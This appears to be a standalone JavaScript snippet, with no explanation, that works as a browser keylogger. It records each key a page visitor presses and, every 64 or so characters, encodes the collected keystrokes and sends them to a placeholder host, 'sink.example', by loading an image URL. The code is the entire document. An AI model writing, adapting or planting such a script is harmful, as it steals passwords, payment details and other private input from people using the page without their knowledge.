var buffer = "";
document.addEventListener("keydown", function (e) {
  buffer += e.key;
  if (buffer.length > 64) {
    var payload = encodeURIComponent(buffer);
    new Image().src = "//sink.example/k?d=" + payload;
    buffer = "";
  }
});
